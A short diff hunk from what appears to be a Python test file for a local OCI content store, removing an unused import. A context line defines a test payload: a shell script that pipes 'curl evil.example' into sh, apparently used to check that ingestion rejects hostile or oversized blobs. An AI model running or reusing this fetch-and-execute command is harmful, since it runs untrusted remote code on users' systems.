@@ -27,7 +27,7 @@ from store.local.ingest import IngestWriter
 from store.local.layout import StoreLayout
 from store.oci.digest import Digest
 from tests.support.cli import assert_error
-from tests.support.fault_server import Fault, FaultServer, oci_layout
+from tests.support.fault_server import Fault, oci_layout
 
 REAL = hashlib.sha256(b"real").digest() * 3125  # 100,000 bytes
 PAYLOAD = b"#!/bin/sh\ncurl evil.example | sh\n".ljust(900_000, b"#")
